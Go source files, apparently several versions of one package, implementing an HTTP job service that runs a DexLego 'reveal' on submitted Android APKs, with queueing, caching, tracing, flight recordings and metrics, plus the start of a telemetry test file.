	// dump then shows which nodes the request traversed before it ran here.
	for _, hop := range j.hops {
		span.FleetHop(j.id, hop)
	}

	s.mu.Lock()
	s.counts[j.state]--
	j.state = StateRunning
	j.queueNS = int64(wait)
	s.counts[StateRunning]++
	s.mu.Unlock()

	// The reveal owns a second tracer (the per-app snapshot riding in the
	// artifact must cover only reveal events) sharing the job's ring and
	// trace ID, so the flight recording holds the end-to-end tree.
	revealTracer := obs.New(rec)
	revealTracer.SetTraceID(j.trace)

	runStart := time.Now()
	art, hit, err := s.cfg.Store.GetOrReveal(j.key, func() (*store.Artifact, error) {
		// The memory gate sits inside the reveal closure so cache hits are
		// served without ever waiting on it; only fresh reveals carry the
		// heap footprint the budget meters.
		if s.cfg.MemBudget != nil {
			est := estimateFootprint(pkg)
			resv, waited := s.cfg.MemBudget.Acquire(est)
			defer resv.Release()
			if waited > 0 {
				span.MemAdmitWait(j.id, waited, est)
			}
		}
		o := opts
		o.Tracer = revealTracer
		o.TraceLabel = j.name
		// The admitted budget, not the raw config: Workers is outside the
		// options fingerprint (it never changes artifact bytes), so this
		// cannot split the cache.
		o.Workers = s.revealWorkers
		// Same reasoning for the incremental method cache: an execution
		// strategy, byte-identical output, outside the fingerprint.
		if s.cfg.MethodCache != nil {
			o.Incremental = true
			o.MethodCache = s.cfg.MethodCache
		}
		// The spill tier is likewise an execution strategy with
		// byte-identical output, outside the fingerprint.
		o.SpillCache = s.cfg.SpillCache
		var res *dexlego.Result
		revealErr := pipeline.Isolate(func() error {
			r, err := s.reveal(pkg, o)
			res = r
			return err
		})
		if revealErr != nil {
			return nil, revealErr
		}
		revealed, err := res.Revealed.Bytes()
		if err != nil {
			return nil, fmt.Errorf("serialize revealed apk: %w", err)
		}
		metrics := &pipeline.AppMetrics{Name: j.name}
		if res.Metrics != nil {
			m := *res.Metrics
			m.Name = j.name
			metrics = &m
		}
		return &store.Artifact{Name: j.name, Revealed: revealed, Metrics: metrics}, nil
	})
	if hit {
		span.CacheHit(j.key)
	} else if err == nil {
		span.CacheMiss(j.key)
	}
	run := time.Since(runStart)
	total := time.Since(submitTime)
	fresh := !hit && err == nil

	// The job's resource bill: latency split from the server's clocks,
	// CPU/heap figures from the reveal when this job actually ran one.
	ru := &pipeline.ResourceUsage{QueueNS: int64(wait), RunNS: int64(run), TotalNS: int64(total)}
	if fresh && art.Metrics != nil && art.Metrics.Resources != nil {
		r := *art.Metrics.Resources
		r.QueueNS = int64(wait)
		r.TotalNS = int64(total)
		ru = &r
	}

	sloViolated := s.cfg.SLO > 0 && total > s.cfg.SLO
	if sloViolated {
		s.tel.sloViolations.Add(1)
		span.SLOViolation(j.id, total, s.cfg.SLO)
	}
	span.JobDone(j.id, total, err == nil)
	switch {
	case err != nil:
		s.dumpFlight(j, rec, span, obs.FlightReasonFailed)
	case sloViolated:
		s.dumpFlight(j, rec, span, obs.FlightReasonSLO)
	}
	span.End()

	var m *pipeline.AppMetrics
	if art != nil {
		m = art.Metrics
	}
	s.tel.observeJob(wait, run, total, m, fresh)

	s.mu.Lock()
	j.totalNS = int64(total)
	j.resources = ru
	s.finishLocked(j, art, hit, err, run)
	// Fold the job's lifecycle tracer into the aggregate. The reveal
	// tracer's snapshot rides in the artifact for successes (finishLocked
	// merges it); on failure no artifact exists to carry it, so merge the
	// reveal tracer directly — its drop count must not vanish.
	s.agg = obs.MergeSnapshots(s.agg, jobTracer.Snapshot())
	if err != nil {
		s.agg = obs.MergeSnapshots(s.agg, revealTracer.Snapshot())
	}
	s.mu.Unlock()
}

// finishLocked records a job's completion and publishes its obs snapshot
// into the server aggregate. Callers hold s.mu.
func (s *Server) finishLocked(j *job, art *store.Artifact, hit bool, err error, run time.Duration) {
	if s.active[j.key] == j {
		delete(s.active, j.key)
	}
	s.counts[j.state]--
	j.runNS = int64(run)
	j.cacheHit = hit
	if err != nil {
		j.state = StateFailed
		j.err = err.Error()
	} else {
		j.state = StateDone
		j.artifact = art
		if art.Metrics != nil && art.Metrics.Obs != nil {
			s.agg = obs.MergeSnapshots(s.agg, art.Metrics.Obs)
		}
	}
	s.counts[j.state]++
	close(j.done)
}

// statusLocked snapshots a job into its JSON shape. Callers hold s.mu.
func (j *job) statusLocked() *JobStatus {
	st := &JobStatus{
		ID:           j.id,
		State:        j.state,
		Name:         j.name,
		Key:          j.key,
		CacheHit:     j.cacheHit,
		Err:          j.err,
		Trace:        j.trace,
		Hops:         j.hops,
		QueueNS:      j.queueNS,
		RunNS:        j.runNS,
		TotalNS:      j.totalNS,
		Resources:    j.resources,
		FlightReason: j.flightReason,
	}
	if j.artifact != nil {
		st.RevealedBytes = len(j.artifact.Revealed)
		st.Metrics = j.artifact.Metrics
	}
	return st
}

func (s *Server) writeJob(w http.ResponseWriter, code int, j *job) {
	s.mu.Lock()
	st := j.statusLocked()
	s.mu.Unlock()
	writeJSON(w, code, st)
}

func (s *Server) handleJob(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	j, ok := s.jobs[r.PathValue("id")]
	var st *JobStatus
	if ok {
		st = j.statusLocked()
	}
	s.mu.Unlock()
	if !ok {
		httpError(w, http.StatusNotFound, "unknown job")
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func (s *Server) handleArtifact(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	j, ok := s.jobs[r.PathValue("id")]
	var art *store.Artifact
	var state State
	if ok {
		art, state = j.artifact, j.state
	}
	s.mu.Unlock()
	switch {
	case !ok:
		httpError(w, http.StatusNotFound, "unknown job")
	case state == StateFailed:
		httpError(w, http.StatusConflict, "job failed; no artifact")
	case art == nil:
		httpError(w, http.StatusConflict, "job not finished; poll /v1/jobs/{id}")
	default:
		w.Header().Set("Content-Type", "application/zip")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(art.Revealed)
	}
}

func (s *Server) handleMetrics(w http.ResponseWriter, _ *http.Request) {
	var m Metrics
	m.Jobs.Submitted = s.submitted.Load()
	m.Jobs.Rejected = s.rejected.Load()
	m.Jobs.Coalesced = s.coalesced.Load()
	m.Store.Hits = s.cfg.Store.Hits()
	m.Store.Misses = s.cfg.Store.Misses()
	m.Store.Evicted = s.cfg.Store.Evicted()
	m.Store.Resident = s.cfg.Store.Len()
	s.mu.Lock()
	m.Jobs.Queued = s.counts[StateQueued]
	m.Jobs.Running = s.counts[StateRunning]
	m.Jobs.Done = s.counts[StateDone]
	m.Jobs.Failed = s.counts[StateFailed]
	// Merge into a fresh snapshot: MergeSnapshots mutates its dst, and the
	// aggregate must keep accumulating independently of this response.
	snap := obs.MergeSnapshots(nil, s.agg)
	s.mu.Unlock()
	m.Obs = obs.MergeSnapshots(snap, s.tracer.Snapshot())
	if m.Obs != nil {
		m.DroppedEvents = m.Obs.Dropped
	}
	writeJSON(w, http.StatusOK, &m)
}

// handleHealth is liveness: the process is up and serving HTTP. It stays
// 200 through a drain — a draining node is alive, it just takes no new
// work — so orchestrators never kill a node for refusing admissions.
func (s *Server) handleHealth(w http.ResponseWriter, _ *http.Request) {
	w.WriteHeader(http.StatusOK)
	_, _ = io.WriteString(w, "ok\n")
}

// handleReady is readiness: whether this node should receive new work. A
// draining node or one that has not yet joined its fleet (SetReady(false))
// answers 503, so routers and fleet peers exclude it while liveness stays
// green.
func (s *Server) handleReady(w http.ResponseWriter, _ *http.Request) {
	switch {
	case s.draining.Load():
		httpError(w, http.StatusServiceUnavailable, "draining")
	case !s.Ready():
		httpError(w, http.StatusServiceUnavailable, "not ready")
	default:
		w.WriteHeader(http.StatusOK)
		_, _ = io.WriteString(w, "ready\n")
	}
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

func httpError(w http.ResponseWriter, code int, msg string) {
	writeJSON(w, code, map[string]string{"error": msg})
}
