// Package server is the reveal-as-a-service layer: an HTTP job API over
// the DexLego pipeline. The paper positions DexLego as a front-end that
// feeds revealed APKs to downstream static analyzers (Sec. I, Fig. 1), so
// the service treats the reveal artifact as its unit of work: submissions
// are addressed into the content-addressed store (internal/store), a
// bounded queue feeds a pipeline worker pool, and repeated requests for
// the same (APK, Options) pair are served from cache without re-running
// the reveal.
//
// API:
//
//	POST /v1/reveal              submit an APK (request body) or a named
//	                             droidbench sample (?sample=Name); options
//	                             via ?force=1&fuzz=1&seed=N; ?wait=1
//	                             blocks until completion or the request
//	                             timeout. 200 on a cache hit or completed
//	                             wait, 202 with a job id otherwise, 429 +
//	                             Retry-After when the queue is full.
//	GET  /v1/jobs/{id}           job status/result JSON
//	GET  /v1/jobs/{id}/artifact  revealed APK bytes (zip)
//	GET  /v1/jobs/{id}/flight    JSONL flight recording (failed or
//	                             SLO-violating jobs only)
//	GET  /v1/metrics             job/store counters + merged obs snapshot
//	GET  /metrics                OpenMetrics text exposition of the same
//	                             plane, for Prometheus-style scrapers
//	GET  /healthz                200 serving, 503 draining
package server

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"runtime"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	dexlego "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/droidbench"
	"dexlego/internal/obs"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
)

// State is a job's position in its lifecycle.
type State string

// The job states, in lifecycle order.
const (
	StateQueued  State = "queued"
	StateRunning State = "running"
	StateDone    State = "done"
	StateFailed  State = "failed"
)

// RevealFunc runs one reveal; it exists so tests can substitute the real
// dexlego.Reveal with a controllable stand-in.
type RevealFunc func(*apk.APK, dexlego.Options) (*dexlego.Result, error)

// Config parameterizes a Server.
type Config struct {
	// Store caches reveal artifacts; required.
	Store *store.Store
	// Workers is the job-level parallelism: how many reveals run at once
	// (<= 0 selects GOMAXPROCS).
	Workers int
	// RevealWorkers is the per-job worker budget handed to each reveal's
	// intra-APK pools (reassembly fan-out, force-execution runs). Admission
	// control clamps it so Workers × RevealWorkers never exceeds
	// GOMAXPROCS — jobs-level and reveal-level parallelism multiply, and
	// oversubscription would thrash rather than speed up. <= 0 grants each
	// job the largest budget the cap allows.
	RevealWorkers int
	// QueueDepth bounds jobs admitted but not yet running (<= 0 selects
	// 64). A full queue answers 429, never unbounded memory growth.
	QueueDepth int
	// RequestTimeout bounds ?wait=1 blocking (<= 0 selects 30s).
	RequestTimeout time.Duration
	// MaxBodyBytes bounds the uploaded APK size (<= 0 selects 64 MiB).
	MaxBodyBytes int64
	// Sink, when set, receives the JSONL trace of the server span and of
	// every reveal; nil keeps metrics without trace lines.
	Sink obs.Sink
	// FlightEvents bounds each job's flight-recorder ring — the most recent
	// trace events retained for incident dumps (<= 0 selects 256).
	FlightEvents int
	// FlightDir, when set, receives one <jobid>.jsonl flight recording per
	// failed or SLO-violating job. The directory must exist.
	FlightDir string
	// SLO, when > 0, is the admission-to-completion latency objective: jobs
	// exceeding it emit an slo_violation event and dump their flight ring
	// even though they succeeded.
	SLO time.Duration
	// Reveal substitutes the reveal implementation in tests; nil selects
	// dexlego.Reveal.
	Reveal RevealFunc
}

// maxFinishedJobs bounds the completed-job history the server retains for
// GET /v1/jobs/{id}; the oldest finished jobs are dropped past it.
const maxFinishedJobs = 1024

// job is the server-side record of one submission.
type job struct {
	id   string
	key  string
	name string

	// trace is the job's stable trace identity: a prefix of its content
	// address, stamped on every event of the job's span tree.
	trace string

	// Guarded by Server.mu.
	state        State
	cacheHit     bool
	err          string
	submitted    time.Time
	queueNS      int64
	runNS        int64
	totalNS      int64
	resources    *pipeline.ResourceUsage
	flight       []byte // JSONL flight recording; nil unless the job failed or blew its SLO
	flightReason string
	artifact     *store.Artifact

	done chan struct{} // closed on completion
}

// JobStatus is the JSON shape of a job returned by the API.
type JobStatus struct {
	ID    string `json:"id"`
	State State  `json:"state"`
	Name  string `json:"name,omitempty"`
	// Key is the artifact's content address in the store.
	Key string `json:"key"`
	// CacheHit reports the reveal was served from the store (or from a
	// concurrent identical request) without running.
	CacheHit bool   `json:"cacheHit"`
	Err      string `json:"err,omitempty"`
	// Trace is the job's stable trace identity (a content-address prefix);
	// filter a shared JSONL trace on it to extract this job's span tree.
	Trace   string `json:"trace,omitempty"`
	QueueNS int64  `json:"queueNS,omitempty"`
	RunNS   int64  `json:"runNS,omitempty"`
	TotalNS int64  `json:"totalNS,omitempty"`
	// Resources is the job's resource bill as the server observed it:
	// latency split always, CPU/heap figures when the job actually ran.
	Resources *pipeline.ResourceUsage `json:"resources,omitempty"`
	// FlightReason is set ("failed" or "slo") when a flight recording is
	// available at /v1/jobs/{id}/flight.
	FlightReason string `json:"flightReason,omitempty"`
	// RevealedBytes sizes the artifact available at /v1/jobs/{id}/artifact.
	RevealedBytes int                  `json:"revealedBytes,omitempty"`
	Metrics       *pipeline.AppMetrics `json:"metrics,omitempty"`
}

// Metrics is the JSON shape of GET /v1/metrics.
type Metrics struct {
	Jobs struct {
		Submitted int64 `json:"submitted"`
		Queued    int   `json:"queued"`
		Running   int   `json:"running"`
		Done      int   `json:"done"`
		Failed    int   `json:"failed"`
		Rejected  int64 `json:"rejected"`
	} `json:"jobs"`
	Store struct {
		Hits     int64 `json:"hits"`
		Misses   int64 `json:"misses"`
		Evicted  int64 `json:"evicted"`
		Resident int   `json:"resident"`
	} `json:"store"`
	// DroppedEvents totals trace events lost anywhere in the plane (live
	// server tracer plus completed per-job tracers); non-zero means the
	// trace is incomplete and the sink needs attention.
	DroppedEvents int64 `json:"droppedEvents"`
	// Obs merges the server lifecycle snapshot (cache_hit/cache_miss,
	// queue_wait, job_enqueued/job_done) with every completed reveal's
	// per-app snapshot.
	Obs *obs.Snapshot `json:"obs,omitempty"`
}

// Server is the reveal job service. Create with New, expose via Handler,
// stop with BeginDrain + Close.
type Server struct {
	cfg    Config
	reveal RevealFunc
	pool   *pipeline.Pool
	tracer *obs.Tracer
	root   *obs.Span
	tel    *telemetry
	// revealWorkers is the admitted per-job worker budget after the
	// GOMAXPROCS oversubscription clamp in New.
	revealWorkers int

	mu       sync.Mutex
	jobs     map[string]*job
	order    []string // submission order, for history trimming
	agg      *obs.Snapshot
	counts   map[State]int
	draining atomic.Bool

	submitted atomic.Int64
	rejected  atomic.Int64
	ids       atomic.Uint64
}

// New returns a serving (not yet listening) server; wire its Handler into
// an http.Server. Callers own cfg.Store's lifetime.
func New(cfg Config) (*Server, error) {
	if cfg.Store == nil {
		return nil, errors.New("server: Config.Store is required")
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = 64
	}
	if cfg.RequestTimeout <= 0 {
		cfg.RequestTimeout = 30 * time.Second
	}
	if cfg.MaxBodyBytes <= 0 {
		cfg.MaxBodyBytes = 64 << 20
	}
	reveal := cfg.Reveal
	if reveal == nil {
		reveal = dexlego.Reveal
	}
	tracer := obs.New(cfg.Sink)
	s := &Server{
		cfg:    cfg,
		reveal: reveal,
		pool:   pipeline.NewPool(cfg.Workers, cfg.QueueDepth),
		tracer: tracer,
		root:   tracer.Start("server", "dexlego-serve"),
		jobs:   make(map[string]*job),
		counts: make(map[State]int),
	}
	s.tel = newTelemetry(s)
	// Admission control for intra-reveal parallelism: the pool runs up to
	// poolWorkers reveals at once and each reveal fans out RevealWorkers
	// goroutines, so the products multiply. Clamp the per-job budget to
	// GOMAXPROCS / poolWorkers (floor 1) so a busy server never schedules
	// more runnable goroutines than cores. NewPool resolves <= 0 to
	// GOMAXPROCS internally, so mirror that here to clamp against the
	// actual pool size.
	procs := runtime.GOMAXPROCS(0)
	poolWorkers := cfg.Workers
	if poolWorkers <= 0 {
		poolWorkers = procs
	}
	budget := procs / poolWorkers
	if budget < 1 {
		budget = 1
	}
	s.revealWorkers = cfg.RevealWorkers
	if s.revealWorkers <= 0 || s.revealWorkers > budget {
		requested := cfg.RevealWorkers
		s.revealWorkers = budget
		if requested > budget {
			s.root.WorkerClamp(requested, budget,
				fmt.Sprintf("%d jobs x %d reveal workers exceeds GOMAXPROCS=%d",
					poolWorkers, requested, procs))
		}
	}
	return s, nil
}

// RevealWorkers reports the per-job worker budget after admission control.
func (s *Server) RevealWorkers() int { return s.revealWorkers }

// Handler returns the API routes.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/reveal", s.handleReveal)
	mux.HandleFunc("GET /v1/jobs/{id}", s.handleJob)
	mux.HandleFunc("GET /v1/jobs/{id}/artifact", s.handleArtifact)
	mux.HandleFunc("GET /v1/jobs/{id}/flight", s.handleFlight)
	mux.HandleFunc("GET /v1/metrics", s.handleMetrics)
	mux.HandleFunc("GET /metrics", s.handleOpenMetrics)
	mux.HandleFunc("GET /healthz", s.handleHealth)
	return mux
}

// BeginDrain stops admitting work: POST answers 503 and /healthz flips, so
// load balancers stop routing here while in-flight jobs finish.
func (s *Server) BeginDrain() { s.draining.Store(true) }

// Draining reports whether BeginDrain was called.
func (s *Server) Draining() bool { return s.draining.Load() }

// Close drains the queue (every admitted job still completes), stops the
// workers, and ends the server span. Call after BeginDrain and the HTTP
// listener's shutdown.
func (s *Server) Close() {
	s.draining.Store(true)
	s.pool.Close()
	s.root.End()
}

// parseRequest builds the (APK, Options, name) of one submission.
func (s *Server) parseRequest(w http.ResponseWriter, r *http.Request) (*apk.APK, dexlego.Options, string, error) {
	q := r.URL.Query()
	opts := dexlego.Options{
		InstallNatives: installAllPackers,
		ForceExecution: q.Get("force") == "1",
		Fuzz:           q.Get("fuzz") == "1",
	}
	if seed := q.Get("seed"); seed != "" {
		n, err := strconv.ParseInt(seed, 10, 64)
		if err != nil {
			return nil, opts, "", fmt.Errorf("bad seed %q", seed)
		}
		opts.FuzzSeed = n
	}
	if sample := q.Get("sample"); sample != "" {
		sm := droidbench.ByName(sample)
		if sm == nil {
			return nil, opts, "", fmt.Errorf("unknown droidbench sample %q", sample)
		}
		pkg, err := sm.Build()
		if err != nil {
			return nil, opts, "", fmt.Errorf("build sample %q: %v", sample, err)
		}
		opts.Natives = sm.Natives()
		return pkg, opts, sample, nil
	}
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes))
	if err != nil {
		return nil, opts, "", fmt.Errorf("read body: %v", err)
	}
	if len(body) == 0 {
		return nil, opts, "", errors.New("empty body: send APK bytes or ?sample=Name")
	}
	pkg, err := apk.Read(body)
	if err != nil {
		return nil, opts, "", fmt.Errorf("body is not an APK: %v", err)
	}
	h := pkg.ContentHash()
	return pkg, opts, fmt.Sprintf("apk-%x", h[:6]), nil
}

// installAllPackers is the server-wide native setup: the shell libraries
// of every supported packer, so packed submissions unpack transparently
// (as cmd/dexlego does in one-shot mode). Constant across requests, so it
// never perturbs the options fingerprint between submissions.
func installAllPackers(rt *art.Runtime) {
	for _, pk := range packer.All() {
		pk.InstallNatives(rt)
	}
}

func (s *Server) handleReveal(w http.ResponseWriter, r *http.Request) {
	if s.draining.Load() {
		httpError(w, http.StatusServiceUnavailable, "draining")
		return
	}
	pkg, opts, name, err := s.parseRequest(w, r)
	if err != nil {
		httpError(w, http.StatusBadRequest, err.Error())
		return
	}
	key := store.KeyFor(pkg.ContentHash(), opts.Fingerprint())
	s.submitted.Add(1)

	// Fast path: the artifact already exists — answer without a job queue
	// round trip. The job record still exists so the id is pollable.
	if art, ok := s.cfg.Store.Get(key); ok {
		j := s.newJob(key, name)
		total := time.Since(j.submitted)
		s.tel.observeJob(0, 0, total, nil, false)
		s.mu.Lock()
		j.totalNS = int64(total)
		j.resources = &pipeline.ResourceUsage{TotalNS: int64(total)}
		s.finishLocked(j, art, true, nil, 0)
		s.mu.Unlock()
		s.root.CacheHit(key)
		s.writeJob(w, http.StatusOK, j)
		return
	}

	j := s.newJob(key, name)
	submitTime := time.Now()
	accepted := s.pool.TrySubmit(func() { s.runJob(j, submitTime, pkg, opts) })
	if !accepted {
		s.rejected.Add(1)
		s.dropJob(j)
		w.Header().Set("Retry-After", "1")
		httpError(w, http.StatusTooManyRequests, "queue full, retry later")
		return
	}
	s.root.JobEnqueued(j.id)

	if r.URL.Query().Get("wait") == "1" {
		select {
		case <-j.done:
			s.writeJob(w, http.StatusOK, j)
		case <-time.After(s.cfg.RequestTimeout):
			s.writeJob(w, http.StatusAccepted, j)
		case <-r.Context().Done():
			// Client went away; the job still completes and is pollable.
			return
		}
		return
	}
	w.Header().Set("Location", "/v1/jobs/"+j.id)
	s.writeJob(w, http.StatusAccepted, j)
}

// newJob registers a queued job record, trimming finished history.
func (s *Server) newJob(key, name string) *job {
	j := &job{
		id:        fmt.Sprintf("job-%06d", s.ids.Add(1)),
		key:       key,
		name:      name,
		trace:     traceIDFor(key),
		state:     StateQueued,
		submitted: time.Now(),
		done:      make(chan struct{}),
	}
	s.mu.Lock()
	s.jobs[j.id] = j
	s.order = append(s.order, j.id)
	s.counts[StateQueued]++
	s.trimLocked()
	s.mu.Unlock()
	return j
}

// dropJob forgets a job that was never admitted (429 path).
func (s *Server) dropJob(j *job) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.jobs[j.id]; !ok {
		return
	}
	delete(s.jobs, j.id)
	s.counts[j.state]--
	for i, id := range s.order {
		if id == j.id {
			s.order = append(s.order[:i], s.order[i+1:]...)
			break
		}
	}
}

// trimLocked drops the oldest finished jobs past the history bound;
// queued/running jobs are never dropped.
func (s *Server) trimLocked() {
	if len(s.order) <= maxFinishedJobs {
		return
	}
	kept := s.order[:0]
	excess := len(s.order) - maxFinishedJobs
	for _, id := range s.order {
		j := s.jobs[id]
		if excess > 0 && j != nil && (j.state == StateDone || j.state == StateFailed) {
			delete(s.jobs, id)
			s.counts[j.state]--
			excess--
			continue
		}
		kept = append(kept, id)
	}
	s.order = kept
}

// runJob executes one admitted job on a pool worker. The job's whole span
// tree — lifecycle span and reveal spans alike — flows through a per-job
// tracer pair sharing one flight-recorder ring and one trace ID, so an
// incident can dump the job's recent history end to end while the happy
// path pays only one ring store per event.
func (s *Server) runJob(j *job, submitTime time.Time, pkg *apk.APK, opts dexlego.Options) {
	wait := time.Since(submitTime)
	rec := obs.NewFlightRecorder(s.cfg.Sink, s.cfg.FlightEvents)
	jobTracer := obs.New(rec)
	jobTracer.SetTraceID(j.trace)
	span := jobTracer.Start("job", j.name)
	span.QueueWait(j.id, wait)

	s.mu.Lock()
	s.counts[j.state]--
	j.state = StateRunning
	j.queueNS = int64(wait)
	s.counts[StateRunning]++
	s.mu.Unlock()

	// The reveal owns a second tracer (the per-app snapshot riding in the
	// artifact must cover only reveal events) sharing the job's ring and
	// trace ID, so the flight recording holds the end-to-end tree.
	revealTracer := obs.New(rec)
	revealTracer.SetTraceID(j.trace)

	runStart := time.Now()
	art, hit, err := s.cfg.Store.GetOrReveal(j.key, func() (*store.Artifact, error) {
		o := opts
		o.Tracer = revealTracer
		o.TraceLabel = j.name
		// The admitted budget, not the raw config: Workers is outside the
		// options fingerprint (it never changes artifact bytes), so this
		// cannot split the cache.
		o.Workers = s.revealWorkers
		var res *dexlego.Result
		revealErr := pipeline.Isolate(func() error {
			r, err := s.reveal(pkg, o)
			res = r
			return err
		})
		if revealErr != nil {
			return nil, revealErr
		}
		revealed, err := res.Revealed.Bytes()
		if err != nil {
			return nil, fmt.Errorf("serialize revealed apk: %w", err)
		}
		metrics := &pipeline.AppMetrics{Name: j.name}
		if res.Metrics != nil {
			m := *res.Metrics
			m.Name = j.name
			metrics = &m
		}
		return &store.Artifact{Name: j.name, Revealed: revealed, Metrics: metrics}, nil
	})
	if hit {
		span.CacheHit(j.key)
	} else if err == nil {
		span.CacheMiss(j.key)
	}
	run := time.Since(runStart)
	total := time.Since(submitTime)
	fresh := !hit && err == nil

	// The job's resource bill: latency split from the server's clocks,
	// CPU/heap figures from the reveal when this job actually ran one.
	ru := &pipeline.ResourceUsage{QueueNS: int64(wait), RunNS: int64(run), TotalNS: int64(total)}
	if fresh && art.Metrics != nil && art.Metrics.Resources != nil {
		r := *art.Metrics.Resources
		r.QueueNS = int64(wait)
		r.TotalNS = int64(total)
		ru = &r
	}

	sloViolated := s.cfg.SLO > 0 && total > s.cfg.SLO
	if sloViolated {
		s.tel.sloViolations.Add(1)
		span.SLOViolation(j.id, total, s.cfg.SLO)
	}
	span.JobDone(j.id, total, err == nil)
	switch {
	case err != nil:
		s.dumpFlight(j, rec, span, obs.FlightReasonFailed)
	case sloViolated:
		s.dumpFlight(j, rec, span, obs.FlightReasonSLO)
	}
	span.End()

	var m *pipeline.AppMetrics
	if art != nil {
		m = art.Metrics
	}
	s.tel.observeJob(wait, run, total, m, fresh)

	s.mu.Lock()
	j.totalNS = int64(total)
	j.resources = ru
	s.finishLocked(j, art, hit, err, run)
	// Fold the job's lifecycle tracer into the aggregate. The reveal
	// tracer's snapshot rides in the artifact for successes (finishLocked
	// merges it); on failure no artifact exists to carry it, so merge the
	// reveal tracer directly — its drop count must not vanish.
	s.agg = obs.MergeSnapshots(s.agg, jobTracer.Snapshot())
	if err != nil {
		s.agg = obs.MergeSnapshots(s.agg, revealTracer.Snapshot())
	}
	s.mu.Unlock()
}

// finishLocked records a job's completion and publishes its obs snapshot
// into the server aggregate. Callers hold s.mu.
func (s *Server) finishLocked(j *job, art *store.Artifact, hit bool, err error, run time.Duration) {
	s.counts[j.state]--
	j.runNS = int64(run)
	j.cacheHit = hit
	if err != nil {
		j.state = StateFailed
		j.err = err.Error()
	} else {
		j.state = StateDone
		j.artifact = art
		if art.Metrics != nil && art.Metrics.Obs != nil {
			s.agg = obs.MergeSnapshots(s.agg, art.Metrics.Obs)
		}
	}
	s.counts[j.state]++
	close(j.done)
}

// statusLocked snapshots a job into its JSON shape. Callers hold s.mu.
func (j *job) statusLocked() *JobStatus {
	st := &JobStatus{
		ID:           j.id,
		State:        j.state,
		Name:         j.name,
		Key:          j.key,
		CacheHit:     j.cacheHit,
		Err:          j.err,
		Trace:        j.trace,
		QueueNS:      j.queueNS,
		RunNS:        j.runNS,
		TotalNS:      j.totalNS,
		Resources:    j.resources,
		FlightReason: j.flightReason,
	}
	if j.artifact != nil {
		st.RevealedBytes = len(j.artifact.Revealed)
		st.Metrics = j.artifact.Metrics
	}
	return st
}

func (s *Server) writeJob(w http.ResponseWriter, code int, j *job) {
	s.mu.Lock()
	st := j.statusLocked()
	s.mu.Unlock()
	writeJSON(w, code, st)
}

func (s *Server) handleJob(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	j, ok := s.jobs[r.PathValue("id")]
	var st *JobStatus
	if ok {
		st = j.statusLocked()
	}
	s.mu.Unlock()
	if !ok {
		httpError(w, http.StatusNotFound, "unknown job")
		return
	}
	writeJSON(w, http.StatusOK, st)
}

func (s *Server) handleArtifact(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	j, ok := s.jobs[r.PathValue("id")]
	var art *store.Artifact
	var state State
	if ok {
		art, state = j.artifact, j.state
	}
	s.mu.Unlock()
	switch {
	case !ok:
		httpError(w, http.StatusNotFound, "unknown job")
	case state == StateFailed:
		httpError(w, http.StatusConflict, "job failed; no artifact")
	case art == nil:
		httpError(w, http.StatusConflict, "job not finished; poll /v1/jobs/{id}")
	default:
		w.Header().Set("Content-Type", "application/zip")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(art.Revealed)
	}
}

func (s *Server) handleMetrics(w http.ResponseWriter, _ *http.Request) {
	var m Metrics
	m.Jobs.Submitted = s.submitted.Load()
	m.Jobs.Rejected = s.rejected.Load()
	m.Store.Hits = s.cfg.Store.Hits()
	m.Store.Misses = s.cfg.Store.Misses()
	m.Store.Evicted = s.cfg.Store.Evicted()
	m.Store.Resident = s.cfg.Store.Len()
	s.mu.Lock()
	m.Jobs.Queued = s.counts[StateQueued]
	m.Jobs.Running = s.counts[StateRunning]
	m.Jobs.Done = s.counts[StateDone]
	m.Jobs.Failed = s.counts[StateFailed]
	// Merge into a fresh snapshot: MergeSnapshots mutates its dst, and the
	// aggregate must keep accumulating independently of this response.
	snap := obs.MergeSnapshots(nil, s.agg)
	s.mu.Unlock()
	m.Obs = obs.MergeSnapshots(snap, s.tracer.Snapshot())
	if m.Obs != nil {
		m.DroppedEvents = m.Obs.Dropped
	}
	writeJSON(w, http.StatusOK, &m)
}

func (s *Server) handleHealth(w http.ResponseWriter, _ *http.Request) {
	if s.draining.Load() {
		httpError(w, http.StatusServiceUnavailable, "draining")
		return
	}
	w.WriteHeader(http.StatusOK)
	_, _ = io.WriteString(w, "ok\n")
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

func httpError(w http.ResponseWriter, code int, msg string) {
	writeJSON(w, code, map[string]string{"error": msg})
}
