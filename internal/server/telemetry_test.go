package server

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	dexlego "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
	"dexlego/internal/workload"
)

// lockedBuffer is a concurrency-safe obs.Sink capturing the full trace.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Emit(line []byte) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	_, err := b.buf.Write(line)
	return err
}

func (b *lockedBuffer) bytes() []byte {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]byte(nil), b.buf.Bytes()...)
}

func getBody(t *testing.T, url string) (int, []byte) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
